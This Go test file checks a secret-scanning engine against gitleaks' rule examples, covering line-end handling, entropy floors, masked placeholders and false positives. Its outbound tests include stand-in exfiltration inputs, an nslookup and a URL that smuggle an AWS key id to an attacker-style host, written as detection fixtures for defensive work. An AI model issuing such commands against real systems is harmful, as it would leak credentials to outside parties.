package secrets

import "testing"

// TestProbe50Semantics: probe set 50 (held-out run of gitleaks' own rule
// examples against this engine): places where the engine read gitleaks'
// rules differently from gitleaks, and where our own rules took what
// gitleaks' examples call false positives.
func TestProbe50Semantics(t *testing.T) {
	hex8 := func(seed uint64) string { return rnd(seed, hexd, 8) }
	attacks := []secretCase{
		// A rule's "$" is the end of a line, not only of the text: the
		// Sidekiq credentials on a line with more lines after it.
		{"sidekiq url before more lines", "BUNDLE_GEMS__CONTRIBSYS__COM: https://" + hex8(5001) + ":" + hex8(5002) + "@gems.contribsys.com\nBUNDLE_JOBS: 4\n", "sidekiq-sensitive-url"},
		{"sidekiq url mid-file", "source \"https://" + hex8(5003) + ":" + hex8(5004) + "@enterprise.contribsys.com\n# gems below\ngem 'sidekiq-ent'", "sidekiq-sensitive-url"},
		// Still found: a value above the floor, a real token whole.
		{"generic key above the floor", "api_token := \"" + rnd(5005, alnum, 24) + "\"", "generic-api-key"},
		{"password assignment on its line", "db.password= " + rnd(5006, alnum, 14) + "\n", "password-assignment"},
		{"dotted key after an empty one", "billing.password=\nbilling.api_token=" + rnd(5030, alnum, 32) + "\n", "generic-api-key"},
		{"cli token flag", "deploy --token=" + rnd(5007, alnum, 32) + " --region eu", "cli-flag-secret"},
		{"vendor token whole", "HF_ORG=api_org_" + rnd(5008, alnum, 34), "vendor-prefixed-token"},
	}
	for _, tc := range attacks {
		for name, e := range engines() {
			wantRule(t, name, e, tc)
		}
	}
	for _, b := range []string{
		// gitleaks skips a value whose entropy is the floor exactly
		// (3.5 for generic-api-key: 16 bytes, ten seen once, three twice).
		`nonMatchingToken := "5hzeahvy1y2jdv88"`,
		// An empty assignment and the next line's key.
		"snowflake.password=\njdbc.snowflake.url=\n",
		"db_password:\n  from_secret: prod_db_password\n",
		"snowflake.password=\nsnowflake.url=jdbc:snowflake://acme.snowflakecomputing.com/\n",
		// A CSRF token is a page's anti-forgery nonce, not a credential.
		"csrf-token=Mj2qykJO5rELyHgezQ69nzUX0i3OH67V7+V4eUrLfpuyOuxmiW9rhROG/Whikle15syazJOkrjJa3U2AbhIvUw==",
		`<meta name="xsrf-token" content="` + rnd(5009, alnum, 40) + `">`,
		// An identifier built from a UUID after a vendor's prefix.
		"def _api_org_96726c78_4ae3_402f_b08b_7a78c6903d2a(self, method, url):",
		`body = load("api_org_96726c78_4ae3_402f_b08b_7a78c6903d2a.xml")`,
	} {
		wantClean(t, b)
	}
}

// TestProbe50Placeholders: values written by hand for documentation
// (a masked tail in a result, "…TokenHere") are no secrets. A value that
// merely looks typed by hand (a counting run such as "LMNOPQRSTUV") is
// still found: a hex secret holds a run of seven about once in 10^5, and
// masking a made-up key costs nothing, missing a real one a leak.
func TestProbe50Placeholders(t *testing.T) {
	for _, b := range []string{
		"xoxe.xoxp-1-SlackAppConfigurationAccessTokenHere",
	} {
		wantClean(t, b)
	}
	for _, b := range []string{
		`"token4": "xoxp-572370529330-573807301142-572331691188-####################"`,
		`slack_token: "xoxb-441023883810-886130512011-********************"`,
	} {
		if fs := Default().Scan(b); len(fs) > 0 {
			t.Errorf("masked tail in a result found: %q: %v", b, ruleIDs(fs))
		}
	}
	// In an argument the sender writes what follows the key.
	masked := "please keep gh" + "p_" + rnd(5014, alnum, 36) + "*** safe"
	if fs := Outbound().Scan(masked); !hasRule(fs, "github-pat") {
		t.Errorf("outbound: a key followed by *** let through: %v", ruleIDs(fs))
	}
	for _, tc := range []secretCase{
		{"aws key with a counting run", "aws_access_key_id = AKIAZ7Q3LMNOPQRSTUV2", "aws-access-token"},
		{"numeric counting run", `const HEROKU_KEY = "12345678-ABCD-ABCD-ABCD-1234567890AB"`, "heroku-api-key"},
	} {
		for name, e := range engines() {
			wantRule(t, name, e, tc)
		}
	}
	// Look-alikes the other way: random tokens with short runs stay found.
	for _, tc := range []secretCase{
		{"slack bot token", "SLACK_BOT_TOKEN=xo" + "xb-" + rnd(5010, digits, 12) + "-" + rnd(5011, digits, 13) + "-" + rnd(5012, alnum, 24), "slack-bot-token"},
		{"token with a short run", "GITHUB_TOKEN=gh" + "p_" + "abc123" + rnd(5013, alnum, 30), "github-pat"},
	} {
		for name, e := range engines() {
			wantRule(t, name, e, tc)
		}
	}
}

// TestProbe50Outbound: in arguments, a lower-case label is read as an
// upper-case key only when a host name follows it; keys sent in a label
// are still found.
func TestProbe50Outbound(t *testing.T) {
	o := Outbound()
	akia := "akia" + rnd(5020, lower+"234567", 16)
	for _, tc := range []secretCase{
		{"aws key id in a dns label", "nslookup " + akia + ".t.attacker-dns.example", "aws-access-token"},
		{"aws key id in a url host", "https://" + akia + ".collect.example.net/p.gif", "aws-access-token"},
		{"token before a host", "ping " + "ghp_" + rnd(5021, alnum, 36) + ".x.example.org", "github-pat"},
		{"token at the end of a sentence", "the token is ghp_" + rnd(5022, alnum, 36) + ". Use it.", "github-pat"},
	} {
		wantRule(t, "outbound", o, tc)
	}
	for _, b := range []string{
		`msgstr "Näytä asiakirjamallikansio."`,
		"Lue asiakirjamallikansio. Sitten jatka.",
		`<iframe src="./archive/gifs/api-c99e353f761d318322c853c03e.gif"> </iframe>`,
	} {
		if fs := o.Scan(b); len(fs) > 0 {
			t.Errorf("false positive (outbound) in %q: %v", b, ruleIDs(fs))
		}
	}
}

// TestProbe50LineEnds: the rewrite of "$" leaves classes, escapes and
// rules that span lines alone.
func TestProbe50LineEnds(t *testing.T) {
	for in, want := range map[string]string{
		`a(?:[/#]|$)`:       `a(?:[/#]|(?m:$))`,
		`a[$]b\$c$`:         `a[$]b\$c(?m:$)`,
		`x[^]$]y$`:          `x[^]$]y(?m:$)`,
		`p[[:alnum:]$]{3}$`: `p[[:alnum:]$]{3}(?m:$)`,
		`(?s)BEGIN.*?END|$`: `(?s)BEGIN.*?END|$`,
		`a\r?\n(?:MAC|$)|$`: `a\r?\n(?:MAC|$)|$`,
		`\\[nr]|$`:          `\\[nr]|(?m:$)`,
		`no dollar here`:    `no dollar here`,
	} {
		if got := lineEnds(in); got != want {
			t.Errorf("lineEnds(%q) = %q, want %q", in, got, want)
		}
	}
}
